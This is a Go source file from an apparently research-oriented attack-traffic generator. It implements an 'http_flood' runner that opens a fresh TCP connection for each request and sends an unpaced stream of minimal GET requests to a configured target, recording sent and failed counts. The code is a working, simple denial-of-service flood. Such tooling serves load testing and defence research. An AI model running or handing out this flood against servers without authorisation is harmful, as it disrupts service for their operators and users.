package generator

import (
	"fmt"
	"net"
	"strconv"
	"time"

	"github.com/nsrg-lab/attackgen/config"
	"github.com/nsrg-lab/attackgen/stats"
)

type HttpFloodRunner struct {
	options *config.HttpFloodOptions

	addLog   func(string) bool
	addError func(error) bool
	record   func(stats.AttackRecord) bool
}

func init() {
	if err := AddRunner("http_flood", NewHttpFlood); err != nil {
		panic(err)
	}
}

func NewHttpFlood(p RunnerInitParams) Runner {

	r := HttpFloodRunner{
		options:  p.Options.(*config.HttpFloodOptions),
		addLog:   p.LogFunc,
		addError: p.ErrFunc,
		record:   p.RecordFunc,
	}

	return &r
}

// Run opens a fresh short-lived connection per request, writes one
// minimal GET, and closes. Unpaced: only the per-connection timeout
// gates the loop. Any failure counts the request as failed, no retry.
func (r *HttpFloodRunner) Run() error {

	timeout := r.options.ConnectTimeout
	if timeout <= 0 {
		timeout = config.DefaultConnectTimeout
	}

	rec := stats.AttackRecord{
		Kind:           stats.HttpFlood,
		Port:           r.options.TargetPort,
		RequestedCount: r.options.Count,
	}

	addr := net.JoinHostPort(r.options.TargetIP.String(), strconv.Itoa(r.options.TargetPort))
	request := fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\nUser-Agent: ResearchBot/1.0\r\n\r\n", r.options.TargetIP)

	r.addLog(fmt.Sprintf("http flood: %d requests to http://%s/", r.options.Count, addr))

	dialer := net.Dialer{Timeout: timeout}
	start := time.Now()
	lastReport := start

	for i := 0; i < r.options.Count; i++ {

		if err := sendRequest(&dialer, addr, request, timeout); err != nil {
			rec.Failed++
		} else {
			rec.Sent++
		}

		if time.Since(lastReport) >= time.Second {
			r.addLog(fmt.Sprintf("http flood: sent %d/%d", rec.Sent, r.options.Count))
			lastReport = time.Now()
		}
	}

	rec.Finalize(time.Since(start))
	r.record(rec)

	r.addLog(fmt.Sprintf("http flood completed: sent %d, failed %d, %.2fs, %.1f rps actual",
		rec.Sent, rec.Failed, rec.Duration.Seconds(), rec.ActualRate))

	return nil
}

func sendRequest(dialer *net.Dialer, addr, request string, timeout time.Duration) error {

	conn, err := dialer.Dial("tcp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()

	if err := conn.SetWriteDeadline(time.Now().Add(timeout)); err != nil {
		return err
	}

	_, err = conn.Write([]byte(request))

	return err
}
